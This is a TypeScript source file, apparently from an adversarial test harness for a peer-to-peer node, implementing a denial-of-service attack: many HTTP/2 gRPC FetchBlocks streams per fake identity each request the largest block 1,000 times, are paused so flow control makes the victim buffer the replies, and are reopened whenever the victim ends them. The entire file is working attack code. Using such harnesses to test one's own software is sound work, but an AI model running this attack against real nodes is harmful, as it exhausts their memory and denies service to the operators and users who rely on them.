/**
 * Attack 2, duplicate-ref unread streams: FetchBlocks requests naming the victim's largest block 1,000
 * times (a valid request, ≈ 52 KB), on several streams per identity that are never read: the stream is
 * paused at once, so HTTP/2 flow control closes the window after 64 KiB and whatever the victim
 * produces beyond that waits in its memory. A stream that the victim ends is opened again.
 */
import http2 from "node:http2"
import { fromHex } from "../../../domain/bytes.js"
import { scaled, type Attack } from "../attack.js"
import { freshIdentity, type AttackerIdentity } from "../identity.js"
import { connectSession, grpcFrame, grpcHeaders } from "../h2.js"

/** The protocol's limit of refs per request: the request itself is valid. */
const REFS_PER_REQUEST = 1_000
const IDENTITIES = 4
/** Below the per-peer concurrent-call limit (32), so that each stream is served rather than refused. */
const STREAMS_PER_IDENTITY = 12
/** The smallest HTTP/2 windows there are (the default is 64 KiB; 0 would stall the handshake's own frames). */
const WINDOW_BYTES = 65_535

const fetchBlocksRequest = (ref: Uint8Array, count: number): Uint8Array => {
  const one = Buffer.concat([Buffer.from([0x0a, ref.length]), ref])
  return Buffer.concat(Array.from({ length: count }, () => one))
}

/** FetchBlocks streams naming the largest block 1,000 times, paused and never read. */
export const unreadStreams: Attack = async (context) => {
  const frame = grpcFrame(fetchBlocksRequest(fromHex(context.plan.largestBlockRef), REFS_PER_REQUEST))
  context.counters.set("requestBytes", frame.length)
  const identities = Array.from({ length: scaled(context.plan, IDENTITIES) }, freshIdentity)
  const streamsPerIdentity = scaled(context.plan, STREAMS_PER_IDENTITY)
  const sessions = new Set<http2.ClientHttp2Session>()

  const hold = async (identity: AttackerIdentity): Promise<void> => {
    while (!context.stopped()) {
      const session = await connectSession(context.plan.victim.address, identity, { initialWindowSize: WINDOW_BYTES }).catch(() => undefined)
      if (session === undefined) {
        context.counters.add("connectFailures")
        await new Promise((resolve) => setTimeout(resolve, 200))
        continue
      }
      sessions.add(session)
      context.counters.add("sessions")
      const closed = new Promise<void>((resolve) => session.once("close", resolve))
      const open = (): void => {
        if (context.stopped() || session.closed || session.destroyed) return
        let stream: http2.ClientHttp2Stream
        try {
          stream = session.request(grpcHeaders("/soma.p2p.v1.P2p/FetchBlocks"))
        } catch {
          return
        }
        context.counters.add("streamsOpened")
        stream.on("error", () => {})
        stream.on("trailers", (headers) => context.counters.add(`status${String(headers["grpc-status"] ?? "?")}`))
        stream.on("response", (headers) => {
          if (headers["grpc-status"] !== undefined) context.counters.add(`status${String(headers["grpc-status"])}`)
        })
        stream.on("close", () => {
          context.counters.add("streamsEnded")
          setTimeout(open, 100)
        })
        stream.end(frame)
        stream.pause() // never read: the victim's answer waits in its own buffers
      }
      for (let i = 0; i < streamsPerIdentity; i++) open()
      await Promise.race([closed, context.stop])
      sessions.delete(session)
      session.destroy()
    }
  }

  const holders = identities.map(hold)
  context.ready()
  await Promise.all(holders)
  for (const session of sessions) session.destroy()
}
